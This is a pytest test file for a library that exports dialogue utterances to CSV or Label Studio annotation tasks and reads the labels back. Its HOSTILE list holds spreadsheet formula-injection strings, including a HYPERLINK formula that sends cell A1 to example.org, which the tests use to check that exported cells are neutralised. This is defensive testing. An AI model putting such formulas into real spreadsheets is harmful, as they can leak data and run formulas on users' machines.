"""Utterances out to people, and their labels back in."""

import csv
import io
import json
import warnings
from types import SimpleNamespace
from xml.etree import ElementTree

import numpy as np
import pandas as pd
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sklearn_dialpref.inspection.annotation_keys import neutral, restored
from sklearn_dialpref.inspection.annotation_labels import from_annotations
from sklearn_dialpref.inspection.annotation_tasks import to_annotation_tasks

CLASSES = ["complaint", "thanks", "other"]
HOSTILE = [
    '=HYPERLINK("http://example.org?"&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "'quoted'",
    "''",
    "a, \"b\"; 'c'\nsecond\r\nthird\rfourth",
    "🎉 naïve\u00a0café",
    "\u202eright to left\u202c שלום",
    "<b>bold</b> & $text",
    "a\x01b\x1f",
    "1,5",
    "  blanks  ",
]


@pytest.fixture
def X():
    return pd.DataFrame(
        {
            "dialogue_id": ["a", "a", "a", "b", "b"],
            "turn": [1, 2, 3, 1, 2],
            "speaker": ["Ann", "Bob", "Ann", "Bob", None],
            "text": ["Hi!", "Hello.", "My parcel is late.", "Hi!", "Thank you!"],
        }
    )


def read_rows(path):
    """The file as a spreadsheet has it: a list of rows."""
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def write_rows(path, rows, **kwargs):
    file = io.StringIO(newline="")
    csv.writer(file, **kwargs).writerows(rows)
    path.write_bytes(file.getvalue().encode("utf-8-sig"))


def fill(path, labels, column="label"):
    """Write labels into a spreadsheet, by place."""
    header, *rows = read_rows(path)
    for row, label in zip(rows, labels, strict=True):
        row[header.index(column)] = label
    write_rows(path, [header, *rows])


def annotation(*labels, **more):
    """As Label Studio's export has what one person submitted."""
    choice = {"from_name": "label", "to_name": "text", "type": "choices"}
    result = [{**choice, "id": "x", "value": {"choices": list(labels)}}] if labels else []
    return {"id": 1, "completed_by": 1, "was_cancelled": False, "result": result, **more}


def exported(tasks, *annotations):
    """As Label Studio exports tasks as JSON, with the annotations of each."""
    return [
        {"id": number, "data": task["data"], "annotations": list(theirs), "predictions": []}
        for number, (task, theirs) in enumerate(zip(tasks.tasks, annotations, strict=True))
    ]


def json_min(export):
    """The same as Label Studio's JSON-MIN: a record for each annotation that was not skipped."""
    records = []
    for task in export:
        for theirs in task["annotations"] or [None]:
            if theirs is not None and theirs["was_cancelled"]:
                continue
            record = {**task["data"], "id": task["id"], "annotation_id": theirs and theirs["id"]}
            for result in theirs["result"] if theirs else []:
                chosen = result["value"]["choices"]
                one = len(chosen) == 1
                record[result["from_name"]] = chosen[0] if one else {"choices": chosen}
            records.append(record)
    return records


# -- spreadsheets ---------------------------------------------------------------------------


def test_a_sheet_shows_the_utterances_and_takes_their_labels(X, tmp_path):
    path = tmp_path / "labels.csv"
    tasks = to_annotation_tasks(X, path, classes=CLASSES, context_turns=1)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfdialogue_id,")  # by which Excel knows UTF-8
    header, *rows = read_rows(path)
    names = ["dialogue_id", "turn", "speaker", "text", "context", "reason", "suggestion", "label"]
    assert header == [*names, "key"]
    assert rows[2][:-1] == ["a", "3", "Ann", "My parcel is late.", "Bob: Hello.", "", "", ""]
    assert rows[0][4] == ""
    assert rows[4][2] == ""
    assert tasks.rows.tolist() == [0, 1, 2, 3, 4]
    assert len(tasks) == 5
    assert tasks.label_config is None
    fill(path, ["other", "", "complaint", " Other ", "thanks"])
    labels = from_annotations(path, X, classes=CLASSES)
    assert labels.dtype == object
    assert labels.tolist() == ["other", None, "complaint", "other", "thanks"]


def test_labels_survive_shuffles_deleted_rows_and_another_order_of_X(X, tmp_path):
    path = tmp_path / "labels.csv"
    to_annotation_tasks(X, path, classes=CLASSES)
    fill(path, ["other", "thanks", "complaint", "thanks", "other"])
    header, *rows = read_rows(path)
    write_rows(path, [header, rows[4], rows[0], rows[2]])
    longer = pd.concat([X, X.assign(dialogue_id="c" + X["dialogue_id"])]).sample(
        frac=1, random_state=0
    )
    labels = pd.Series(from_annotations(str(path), longer, classes=CLASSES), longer.index)
    mine = longer["dialogue_id"].isin(["a", "b"]).to_numpy()
    assert labels[mine].sort_index().fillna("").tolist() == ["other", "", "complaint", "", "other"]
    assert labels[~mine].isna().all()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_what_spreadsheets_change_when_they_save(X, tmp_path, delimiter):
    path = tmp_path / "labels.csv"
    to_annotation_tasks(X.assign(dialogue_id=["007"] * 3 + ["1e5"] * 2), path, classes=[1, 2])
    fill(path, ["1", "2", "", "2.0", "1"])
    header, *rows = read_rows(path)
    for row in rows:  # ids become numbers, line ends in cells change, empty rows appear
        row[0] = "7" if row[0] == "007" else "1,00E+05"
        row[3] += "\n"
    write_rows(path, [header, [], *rows, [""] * len(header)], delimiter=delimiter)
    X["dialogue_id"] = ["007"] * 3 + ["1e5"] * 2
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert from_annotations(path, X, classes=[1, 2]).tolist() == [1, 2, None, 2, 1]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_come_back_exactly(text, tmp_path):
    path = tmp_path / "labels.csv"
    X = pd.DataFrame({"dialogue_id": [text] * 2, "text": ["Hi!", text], "speaker": [text] * 2})
    to_annotation_tasks(X, path, classes=["a", text], predicted=[text, text])
    header, *rows = read_rows(path)
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))
    shown = {name: restored(cell) for name, cell in zip(header, rows[1], strict=True)}
    assert [shown[name] for name in ("dialogue_id", "speaker", "text", "suggestion")] == [text] * 4
    fill(path, ["", rows[1][header.index("suggestion")]])  # copied from the cell beside it
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert from_annotations(path, X, classes=["a", text]).tolist() == [None, text]


@given(st.text())
def test_neutral_cells_are_no_formulas_and_restored_exactly(cell):
    assert restored(neutral(cell)) == cell
    assert not neutral(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


UNICODE = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1)


@settings(max_examples=50, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from("ab"), UNICODE.filter(str.strip)), min_size=1, max_size=6),
    st.sampled_from(["csv", "label_studio"]),
    st.booleans(),
    st.randoms(use_true_random=False),
)
def test_any_texts_make_the_round_trip(tmp_path_factory, utterances, format, turns, random):
    X = pd.DataFrame(utterances, columns=["dialogue_id", "text"])
    if turns:
        X["turn"] = random.sample(range(-99, 99), len(X))
    labels = [random.choice([None, *CLASSES]) for _ in range(len(X))]
    path = tmp_path_factory.mktemp("trip") / "labels"
    tasks = to_annotation_tasks(X, path, classes=CLASSES, format=format)
    theirs = [labels[row] for row in tasks.rows]
    if format == "csv":
        fill(path, [label or "" for label in theirs])
    else:
        given = [[annotation(label)] if label else [] for label in theirs]
        assert json.loads(path.read_text("utf-8")) == tasks.tasks
        path.write_text(json.dumps(exported(tasks, *given)), "utf-8")
    order = list(range(len(X)))
    if turns:
        random.shuffle(order)
    with warnings.catch_warnings():
        warnings.simplefilter("error" if any(labels) else "ignore")
        back = from_annotations(path, X.iloc[order], classes=CLASSES)
    assert back.tolist() == [labels[row] for row in order]


def test_several_labels_have_a_column_each(X, tmp_path):
    path = tmp_path / "labels.csv"
    table = [[0.6, 0.5, 0], [0.4, 0, 0], [1, 0.9, 0.1], [0, 1, 0], [0, 0, 1]]
    to_annotation_tasks(X, path, classes=CLASSES, multilabel=True, predicted=np.array(table))
    header, *rows = read_rows(path)
    assert header[-4:-1] == ["label: complaint", "label: thanks", "label: other"]
    assert [row[6] for row in rows] == ["complaint", "", "complaint; thanks", "thanks", "other"]
    fill(path, ["1", "x", "TRUE", "", "0"], "label: complaint")
    fill(path, ["0", "", "no", "", "1.0"], "label: other")
    labels = from_annotations(path, X, classes=CLASSES, multilabel=True)
    nan = np.nan
    expected = [[1, nan, 0], [1, nan, nan], [1, nan, 0], [nan] * 3, [0, nan, 1]]
    np.testing.assert_array_equal(labels, expected)
    with pytest.raises(ValueError, match="multilabel=True"):
        from_annotations(path, X, classes=CLASSES)
    fill(path, ["perhaps", "", "", "", ""], "label: thanks")
    with pytest.raises(
        ValueError, match=r"row 2 \(line 2\).*'perhaps'.*'thanks'.*1, 0, or nothing"
    ):
        from_annotations(path, X, classes=CLASSES, multilabel=True)


def test_several_labels_without_a_zero_warn(X):
    tasks = to_annotation_tasks(X, classes=CLASSES, multilabel=True)
    tasks.tasks[0]["label: thanks"] = "1"
    with pytest.warns(UserWarning, match="write 0"):
        labels = from_annotations(tasks, X, classes=CLASSES, multilabel=True)
    assert labels[0, 1] == 1
    assert np.isnan(labels).sum() == labels.size - 1


@pytest.mark.parametrize(
    ("classes", "cells", "labels"),
    [
        ([True, False], ["TRUE", "false", ""], [True, False, None]),
        ([1, 2], ["1", "2.0", ""], [1, 2, None]),
        ([0.5, 1.0], ["1", "0.5", ""], [1.0, 0.5, None]),
        (["01", "02"], ["1", "02", ""], ["01", "02", None]),
        (["-", "+"], ["-", "'+", ""], ["-", "+", None]),
        (["us", "US"], ["us", "US ", ""], ["us", "US", None]),
        (None, ["new", " new ", "1"], ["new", "new", "1"]),
    ],
)
def test_labels_come_back_in_the_type_of_the_classes(classes, cells, labels):
    X = ["one", "two", "three"]
    tasks = to_annotation_tasks(X, classes=classes or CLASSES)
    for task, cell in zip(tasks.tasks, cells, strict=True):
        task["label"] = cell
    result = from_annotations(tasks, X, classes=classes).tolist()
    assert result == labels
    assert [type(label) for label in result] == [type(label) for label in labels]


def test_a_label_that_could_be_two_classes_is_an_error():
    tasks = to_annotation_tasks(["Hi!"], classes=["us", "US"])
    tasks.tasks[0]["label"] = "Us"
    with pytest.raises(ValueError, match="task 0 has the label 'Us', which is not among"):
        from_annotations(tasks, ["Hi!"], classes=["us", "US"])


def test_tables_are_read_as_well(X):
    tasks = to_annotation_tasks(X, classes=CLASSES)
    for frame in (pd.DataFrame(tasks.tasks), pl.DataFrame(tasks.tasks)):
        table = frame.to_dict("list") if isinstance(frame, pd.DataFrame) else frame.to_dict()
        table = {**table, "label": [None, "thanks", None, "other", ""]}
        labels = from_annotations(type(frame)(table), X, classes=CLASSES)
        assert labels.tolist() == [None, "thanks", None, "other", None]
    numbers = pd.DataFrame(tasks.tasks).assign(label=[1.0, np.nan, 2.0, 1.0, np.nan])
    assert from_annotations(numbers, X, classes=[1, 2]).tolist() == [1, None, 2, 1, None]
    with pytest.raises(ValueError, match="no column 'key'"):
        from_annotations(numbers.drop(columns="key"), X, classes=[1, 2])


# -- what is shown --------------------------------------------------------------------------


def test_rows_in_the_order_given_and_all_by_dialogue_and_turn(X):
    shuffled = X.iloc[[4, 2, 0, 3, 1]]
    assert to_annotation_tasks(shuffled, classes=CLASSES).rows.tolist() == [2, 4, 1, 3, 0]
    assert to_annotation_tasks(X, classes=CLASSES, rows=[3, 1]).rows.tolist() == [3, 1]
    mask = np.array([True, False, False, True, False])
    assert to_annotation_tasks(X, classes=CLASSES, rows=mask).rows.tolist() == [0, 3]


def test_suggestions_bring_rows_and_reasons(X):
    suggestions = SimpleNamespace(rows=np.array([4, 0]), reason=np.array(["rare", "unsure"]))
    tasks = to_annotation_tasks(X, classes=CLASSES, suggestions=suggestions)
    assert tasks.rows.tolist() == [4, 0]
    assert [task["reason"] for task in tasks.tasks] == ["rare", "unsure"]
    tasks = to_annotation_tasks(X, classes=CLASSES, suggestions=suggestions, rows=[0, 1])
    assert [task["reason"] for task in tasks.tasks] == ["unsure", ""]


@pytest.mark.parametrize(
    "predicted",
    [
        ["thanks", None, "other", "other", "thanks"],
        [["thanks"] * 2, [None] * 2, ["other", "other"], ["other"] * 2, ["thanks"] * 2],
        pd.DataFrame({"thanks": [0.8, None, 0, 0.1, 0.7], "complaint": [0.1, None, 0, 0.3, 0.1],
                      "other": [0.1, None, 1, 0.6, 0.2]}),
    ],
    ids=["labels", "votes", "scores"],
)  # fmt: skip
def test_predictions_are_shown_as_suggestions(X, predicted):
    tasks = to_annotation_tasks(X, classes=CLASSES, predicted=predicted)
    expected = ["thanks", "", "other", "other", "thanks"]
    assert [task["suggestion"] for task in tasks.tasks] == expected
    tasks = to_annotation_tasks(X, classes=CLASSES, predicted=predicted, format="label_studio")
    assert ["predictions" in task for task in tasks.tasks] == [True, False, True, True, True]


def test_unsorted_classes_make_unnamed_scores_ambiguous(X):
    with pytest.raises(ValueError, match="ambiguous"):
        to_annotation_tasks(X, classes=["b", "a"], predicted=np.full((5, 2), 0.5))


def test_context_of_X_is_shown_if_it_has_one(X):
    X["context"] = ["", "before", "before 2", None, "before 3"]
    sheet = to_annotation_tasks(X, classes=CLASSES)
    assert [task["context"] for task in sheet.tasks] == ["", "before", "before 2", "", "before 3"]
    studio = to_annotation_tasks(X, classes=CLASSES, format="label_studio")
    assert studio.tasks[1]["data"]["dialogue"] == [
        {"author": "", "text": "before"},
        {"author": "Bob", "text": "Hello."},
    ]


@pytest.mark.parametrize("turns", [0, 1, 5])
def test_context_stays_inside_its_dialogue_whatever_the_order(X, turns):
    shuffled = X.iloc[[4, 2, 0, 3, 1]]
    tasks = to_annotation_tasks(
        shuffled, classes=CLASSES, format="label_studio", context_turns=turns
    )
    shown = [[line["text"] for line in task["data"]["dialogue"]] for task in tasks.tasks]
    a, b = ["Hi!", "Hello.", "My parcel is late."], ["Hi!", "Thank you!"]
    every = [a[:1], a[:2], a[:3], b[:1], b[:2]]
    assert shown == [lines[-turns - 1 :] for lines in every]


def test_long_contexts_are_cut_at_their_start():
    X = [["a", f"begin {'x' * 40_000} end"], ["a", "Hi!"]]
    context = to_annotation_tasks(X, classes=CLASSES, rows=[1]).tasks[0]["context"]
    assert len(context) < 32_767
    assert context.startswith("…x")
    assert context.endswith("x end")
    with pytest.raises(ValueError, match=r"too long for a cell.*label_studio"):
        to_annotation_tasks(X, classes=CLASSES)


# -- rows -----------------------------------------------------------------------------------


def test_without_dialogues_equal_texts_are_one_task_and_share_the_label():
    X = ["Hi!", "Bye!", "Hi!"]
    tasks = to_annotation_tasks(X, classes=CLASSES)
    assert tasks.rows.tolist() == [0, 1]
    assert tasks.tasks[0]["dialogue_id"] == tasks.tasks[0]["turn"] == ""
    tasks.tasks[0]["label"] = "thanks"
    assert from_annotations(tasks, X, classes=CLASSES).tolist() == ["thanks", None, "thanks"]


def test_without_turns_the_same_text_keeps_its_place_in_the_dialogue():
    X = [["a", "yes"], ["b", "yes"], ["a", "no"], ["a", "yes"]]
    tasks = to_annotation_tasks(X, classes=CLASSES)
    assert tasks.rows.tolist() == [0, 2, 3, 1]
    for task, label in zip(tasks.tasks, ["other", "thanks", "complaint", ""], strict=True):
        task["label"] = label
    back = from_annotations(tasks, [X[2], X[1], X[0], X[3]], classes=CLASSES)
    assert back.tolist() == ["thanks", None, "other", "complaint"]


def test_turns_beyond_what_floats_tell_apart_are_matched_by_text(X):
    X["turn"] = [10**18 + turn for turn in range(5)]
    tasks = to_annotation_tasks(X, classes=CLASSES)
    for task, label in zip(tasks.tasks, ["other", "thanks", "", "", ""], strict=True):
        task["label"] = label
    back = from_annotations(tasks, X.iloc[::-1], classes=CLASSES)
    assert back.tolist() == [None, None, None, "thanks", "other"]


def test_an_edited_text_warns_and_keeps_its_label(X, tmp_path):
    path = tmp_path / "labels.csv"
    to_annotation_tasks(X, path, classes=CLASSES)
    fill(path, ["other", "", "", "", ""])
    fill(path, ["Hi there!", "unlabelled ones do not matter", "", "", ""], "text")
    with pytest.warns(UserWarning, match=r"edited in row 2 \(line 2\) of .*labels.csv \(1 in all"):
        assert from_annotations(path, X, classes=CLASSES)[0] == "other"


def test_another_text_at_that_turn_is_an_error(X):
    tasks = to_annotation_tasks(X, classes=CLASSES)
    tasks.tasks[2]["label"] = "complaint"
    X.loc[2, "text"] = "Thank you."
    with pytest.raises(ValueError, match="task 2 is about another text than row 2 of X"):
        from_annotations(tasks, X, classes=CLASSES)


def test_utterances_that_X_lacks(X):
    tasks = to_annotation_tasks(X, classes=CLASSES)
    tasks.tasks[0]["label"] = tasks.tasks[4]["label"] = "other"
    with pytest.warns(UserWarning, match="X lacks 1 of 2 labelled utterances, those of task 4"):
        assert from_annotations(tasks, X[:3], classes=CLASSES).tolist() == ["other", None, None]
    with pytest.raises(ValueError, match="none of the 2 labelled utterances is in X"):
        from_annotations(tasks, X.assign(dialogue_id="c", turn=range(5)), classes=CLASSES)


def test_no_label_yet_warns(X):
    with pytest.warns(UserWarning, match="no utterance has a label yet"):
        assert from_annotations(to_annotation_tasks(X, classes=CLASSES), X).tolist() == [None] * 5


def test_the_same_utterance_twice_is_decided_by_majority(X, tmp_path):
    path = tmp_path / "labels.csv"
    to_annotation_tasks(X, path, classes=CLASSES)
    header, first, second, *_ = read_rows(path)
    rows = []
    for row, labels in ((first, ["other", "thanks", "other"]), (second, ["other", "thanks"])):
        rows += [[*row[:-2], label, row[-1]] for label in labels]
    write_rows(path, [header, *rows])
    with pytest.warns(UserWarning, match=r"disagree on 1 utterances.*rows \[1\]"):
        labels = from_annotations(path, X, classes=CLASSES)
    assert labels.tolist() == ["other", None, None, None, None]


# -- Label Studio ---------------------------------------------------------------------------


def test_tasks_for_label_studio(X, tmp_path):
    path = tmp_path / "tasks.json"
    scores = pd.DataFrame(np.tile([0.7, 0.2, 0.1], (5, 1)), columns=CLASSES)
    tasks = to_annotation_tasks(X, path, classes=CLASSES, format="label_studio", predicted=scores)
    written = json.loads(path.read_text("utf-8"))
    assert written == tasks.tasks
    assert set(written[2]) == {"data", "predictions"}
    assert written[2]["data"]["text"] == "My parcel is late."
    assert [line["author"] for line in written[2]["data"]["dialogue"]] == ["Ann", "Bob", "Ann"]
    (prediction,) = written[2]["predictions"]
    assert prediction["score"] == 0.7
    assert prediction["model_version"] == "sklearn-dialpref"
    (result,) = prediction["result"]
    view = ElementTree.fromstring(tasks.label_config)
    choices = view.find("Choices")
    assert result == {
        "from_name": choices.get("name"),
        "to_name": choices.get("toName"),
        "type": "choices",
        "value": {"choices": ["complaint"]},
    }
    assert view.find("Text").get("name") == choices.get("toName")
    assert [tag.get("value") for tag in choices] == CLASSES
    for tag in ("Text", "Paragraphs"):
        assert view.find(tag).get("value").removeprefix("$") in written[2]["data"]
    # names that JSON-MIN gives to the annotation would hide data of that name
    taken = {"id", "label", "annotator", "annotation_id", "created_at", "updated_at", "lead_time"}
    assert not (taken | {"agreement"}) & set(written[2]["data"])


def test_class_names_are_escaped_in_the_interface():
    names = ['<b>"&', "a\nb", "'"]
    tasks = to_annotation_tasks(["Hi!"], classes=names, format="label_studio")
    choices = ElementTree.fromstring(tasks.label_config).find("Choices")
    assert [tag.get("value") for tag in choices] == names
    assert choices.get("choice") == "single"
    tasks = to_annotation_tasks(["Hi!"], classes=["a"], format="label_studio", multilabel=True)
    assert 'choice="multiple"' in tasks.label_config


@pytest.mark.parametrize("form", [list, json_min], ids=["JSON", "JSON-MIN"])
def test_exports_of_label_studio(X, form, tmp_path):
    tasks = to_annotation_tasks(X, classes=CLASSES, format="label_studio")
    export = exported(
        tasks,
        [annotation("thanks"), annotation("thanks"), annotation("other")],
        [annotation("other"), annotation("thanks")],
        [annotation("other", was_cancelled=True)],
        [],
        [annotation(), annotation("complaint")],
    )
    path = tmp_path / "export.json"
    path.write_text(json.dumps(form(export)[::-1], indent=2), "utf-8")
    with pytest.warns(UserWarning, match=r"disagree on 1 utterances.*rows \[1\]"):
        labels = from_annotations(path, X, classes=CLASSES)
    assert labels.tolist() == ["thanks", None, None, None, "complaint"]
    with pytest.warns(UserWarning, match="disagree"):
        again = from_annotations(form(export), X.iloc[::-1], classes=CLASSES)
    assert again.tolist() == labels.tolist()[::-1]


@pytest.mark.parametrize("form", [list, json_min], ids=["JSON", "JSON-MIN"])
def test_exports_of_several_labels(X, form):
    tasks = to_annotation_tasks(X, classes=CLASSES, format="label_studio", multilabel=True)
    export = exported(
        tasks,
        [annotation("thanks", "other")],
        [annotation()],
        [annotation("other", was_cancelled=True)],
        [],
        [annotation("thanks"), annotation("thanks", "other"), annotation("complaint", "other")],
    )
    labels = from_annotations(form(export), X, classes=CLASSES, multilabel=True)
    nan = np.nan
    expected = [[0, 1, 1], [0, 0, 0], [nan] * 3, [nan] * 3, [0, 1, 1]]
    np.testing.assert_array_equal(labels, expected)
    export[0]["annotations"].append(annotation("thanks"))
    with pytest.warns(UserWarning, match="disagree"):
        labels = from_annotations(form(export), X, classes=CLASSES, multilabel=True)
    np.testing.assert_array_equal(labels[0], [0, 1, nan])
    with pytest.raises(ValueError, match=r"has the labels \['thanks', 'other'\].*multilabel=True"):
        from_annotations(form(export), X, classes=CLASSES)


def test_predictions_and_drafts_are_no_labels(X):
    tasks = to_annotation_tasks(X, classes=CLASSES, format="label_studio", predicted=["other"] * 5)
    export = [{**task, "drafts": [annotation("other")]} for task in tasks.tasks]
    with pytest.warns(UserWarning, match="no utterance has a label yet"):
        assert from_annotations(export, X, classes=CLASSES).tolist() == [None] * 5


def test_choices_of_another_name_are_an_error(X):
    tasks = to_annotation_tasks(X[:1], classes=CLASSES, format="label_studio")
    theirs = annotation("other")
    theirs["result"][0]["from_name"] = "sentiment"
    with pytest.raises(ValueError, match=r"task 0 has choices of 'sentiment'.*label_config"):
        from_annotations(exported(tasks, [theirs]), X, classes=CLASSES)
    theirs["result"].append(annotation("thanks")["result"][0])
    assert from_annotations(exported(tasks, [theirs]), X)[0] == "thanks"


# -- files ----------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "label_studio"])
def test_a_file_is_never_overwritten(X, tmp_path, format):
    path = tmp_path / "labels"
    path.write_text("labels")
    with pytest.raises(FileExistsError, match="can hold labels"):
        to_annotation_tasks(X, path, classes=CLASSES, format=format)
    assert path.read_text() == "labels"
    with pytest.raises(FileNotFoundError, match="is not a folder"):
        to_annotation_tasks(X, tmp_path / "none" / "x", classes=CLASSES, format=format)


def test_a_file_appears_whole_or_not_at_all(X, tmp_path, monkeypatch):
    from sklearn_dialpref.inspection import annotation_tasks

    def fail(path):
        raise OSError("disk full")

    monkeypatch.setattr(annotation_tasks, "sync", fail)
    with pytest.raises(OSError, match="disk full"):
        to_annotation_tasks(X, tmp_path / "labels.csv", classes=CLASSES)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("damage", "message"),
    [
        (lambda text: text[:-30], "key 'u"),
        (lambda text: text[: text.index("My parcel")] + '"My par', r"line \d+ of .*is damaged"),
        (lambda text: text.replace(",key", ",cay"), "line 1 of .* has no column 'key'"),
        (lambda text: "", "line 1 of .* has no column 'key'"),
        (lambda text: text.replace("Hello.,", ""), r"row 3 \(line 3\) of .* has 8 cells but.* 9"),
        (lambda text: text.replace("thanks", "thx"), r"row 4 \(line 5\).*'thx'.*\['complaint', "),
        (lambda text: "{" + text, "not JSON"),
        (lambda text: "{}", "JSON object, not a list"),
        (lambda text: "[" * 100_000, "not JSON"),
        (lambda text: "[1]", "task 0 of .* is neither a task"),
        (lambda text: '[{"data": {}, "annotations": [{"result": 3}]}]', "task 0 of .* is neither"),
        (lambda text: text.replace("Hello.", "x" * 200_000), "line 3 of .*field larger"),
    ],
)
def test_damaged_files_are_named(X, tmp_path, damage, message):
    path = tmp_path / "labels.csv"
    to_annotation_tasks(X, path, classes=CLASSES)
    fill(path, ["other", "other", "thanks", "other", "other"])
    path.write_bytes(damage(path.read_bytes().decode("utf-8-sig")).encode("utf-8-sig"))
    with pytest.raises(ValueError, match=message) as raised:
        from_annotations(path, X, classes=CLASSES)
    assert "labels.csv" in str(raised.value)


def test_other_encodings_are_refused(X, tmp_path):
    path = tmp_path / "labels.csv"
    X.loc[1, "text"] = "Schön."
    to_annotation_tasks(X, path, classes=CLASSES)
    path.write_bytes(path.read_text("utf-8-sig").encode("cp1252"))
    with pytest.raises(ValueError, match=r'line 3 of .*not UTF-8.*"CSV UTF-8"'):
        from_annotations(path, X, classes=CLASSES)
    with pytest.raises(FileNotFoundError):
        from_annotations(tmp_path / "none.csv", X, classes=CLASSES)


# -- misuse ---------------------------------------------------------------------------------


@pytest.mark.parametrize("format", ["csv", "label_studio"])
def test_texts_that_no_file_can_hold(format):
    with pytest.raises(ValueError, match=r"row 1 of X.*NUL"):
        to_annotation_tasks(["Hi!", "a\0b"], classes=CLASSES, format=format)
    with pytest.raises(ValueError, match="NUL"):
        to_annotation_tasks([["a", "x\0"], ["a", "Hi!"]], classes=CLASSES, rows=[1], format=format)
    with pytest.raises(ValueError, match="lone surrogate"):
        to_annotation_tasks(["Hi!", "a\ud83d"], classes=CLASSES, format=format)
    with pytest.raises(ValueError, match="lone surrogate"):
        to_annotation_tasks(["Hi!"], classes=["a", "b\ud83d"], format=format)


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"format": "xlsx"}, "format must be 'csv' or 'label_studio', got 'xlsx'"),
        ({"rows": [0, 5]}, "rows holds 5, but X has the rows 0 to 4"),
        ({"rows": [-1]}, "rows holds -1"),
        ({"rows": []}, "nothing to label"),
        ({"rows": [0.5]}, "1-D sequence of row numbers, or 5 bools"),
        ({"rows": [True, False]}, "1-D sequence of row numbers, or 5 bools"),
        ({"classes": ["a"]}, "two classes or more"),
        ({"classes": ["a", " "]}, "class ' ' cannot be written"),
        ({"classes": ["a", "b\0c"]}, "cannot be written"),
        ({"classes": ["a", "a"]}, "each class once"),
        ({"classes": ["a", "$b"], "format": "label_studio"}, r"cannot have the class '\$b'"),
        ({"classes": ["a", "b\x01"], "format": "label_studio"}, "control characters"),
        ({"context_turns": -1}, "context_turns"),
        ({"predicted": ["a"] * 4}, "4 rows"),
        ({"predicted": np.ones((4, 3)), "multilabel": True}, "predicted has 4 rows but X has 5"),
    ],
)
def test_misuse(X, kwargs, message):
    with pytest.raises(ValueError, match=message):
        to_annotation_tasks(X, **{"classes": CLASSES, **kwargs})


def test_suggestions_of_another_type(X):
    with pytest.raises(TypeError, match="got list; pass row numbers as rows=…"):
        to_annotation_tasks(X, classes=CLASSES, suggestions=[1, 2])


def test_misuse_of_reading(X):
    with pytest.raises(ValueError, match="multilabel=True needs classes"):
        from_annotations([], X, multilabel=True)
    with pytest.raises(TypeError, match="got int"):
        from_annotations(3, X)
    with pytest.raises(ValueError, match="the key '', which is none of to_annotation_tasks"):
        from_annotations([{"label": "a"}], X)
    for function in (to_annotation_tasks, lambda X, classes: from_annotations([], X)):
        with pytest.raises(ValueError, match="X holds features"):
            function(np.ones((3, 2)), classes=CLASSES)
    with pytest.raises(ValueError, match="same as text, such as 1 and '1'"):
        to_annotation_tasks(np.array([[1, "Hi!"], ["1", "Hi!"]], dtype=object), classes=CLASSES)
